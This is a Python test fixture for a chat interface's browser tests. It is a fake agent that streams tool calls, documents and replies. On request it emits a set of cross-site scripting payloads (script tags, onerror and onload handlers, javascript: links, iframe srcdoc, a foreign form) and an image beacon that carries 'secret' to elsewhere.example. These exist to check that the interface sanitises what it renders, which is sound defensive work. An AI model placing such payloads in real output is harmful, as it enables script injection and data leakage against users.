"""Who answers in the browser's proofs: slowly where asked to, and with whatever a message wants repeated."""

from __future__ import annotations

import asyncio
import re

from langchain_core.documents import Document
from langchain_core.messages import AIMessage, ToolMessage

TRICKS = """# A heading <script>window.hacked = 1</script>

<img src=x onerror="window.hacked = 1"> <svg onload="window.hacked = 1"></svg>

![spy](https://elsewhere.example/spy.png?said=secret) [run](javascript:window.hacked=1) [log out](/v1/me)

<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe><style>body { display: none }</style>

| a | b |
|--:|:-:|
| <form action=https://elsewhere.example><button>x</button></form> | ![](//elsewhere.example/x.gif) |

```html
<script>window.hacked = 1</script>
```

[a link](https://elsewhere.example/ "quoted\\" onmouseover=\\"window.hacked=1") <https://elsewhere.example/bare>
"""


async def answer(turn):
    """Look something up, and answer; "slowly" takes seconds, "tricks" is all that could do harm."""
    question = turn.text
    call = {"name": "look_up", "args": {"what": question[:80]}, "id": f"call-{len(turn.messages)}"}
    yield AIMessage("", tool_calls=[call])
    yield ToolMessage(f"found <b>{question[:80]}</b>", tool_call_id=call["id"], name="look_up")
    yield Document(
        "What was found <script>window.hacked = 1</script>",
        id="page-1",
        metadata={
            "score": 0.5,
            "url": "javascript:window.hacked=1",
            "title": "<img src=x onerror=window.hacked=1>",
        },
    )
    told = TRICKS if "tricks" in question else f"You asked **{len(turn.messages)}** things: *{question}*"
    if "slowly" in question:
        told = " ".join(f"word{number}" for number in range(1, 41))
    for piece in re.findall(r"\S+\s*", told):
        yield piece
        await asyncio.sleep(0.1 if "slowly" in question else 0)
